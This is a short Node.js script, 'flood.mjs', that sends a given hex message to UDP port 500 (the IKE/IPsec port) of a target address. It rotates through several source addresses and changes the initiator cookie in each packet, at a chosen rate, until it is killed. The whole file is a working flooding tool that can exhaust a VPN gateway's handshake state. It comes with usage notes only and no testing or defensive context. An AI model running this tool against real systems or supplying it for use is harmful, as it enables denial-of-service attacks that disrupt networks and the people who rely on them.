// @ts-check
// node flood.mjs ADDRESS SECOND MESSAGE SOURCE…: sends the message, in hexadecimal, to port 500 of ADDRESS from every SOURCE in turn, each time with
// another initiator cookie, so many a second, until it is killed. Says how many it has sent.
import { createSocket } from 'node:dgram';

const [address = '', perSecond = '', hexadecimal = '', ...sources] = process.argv.slice(2);
const message = Buffer.from(hexadecimal, 'hex');
const PAUSE = 20;
let sent = 0;

const sockets = sources.map((source) => createSocket('udp4').bind(0, source));
setInterval(() => {
  for (let i = 0; i < (Number(perSecond) * PAUSE) / 1000; i++) {
    message.writeUInt32BE(sent, 4);
    sockets[sent % sockets.length]?.send(Uint8Array.from(message), 500, address);
    sent += 1;
  }
  process.stdout.write(`${sent}\n`);
}, PAUSE);
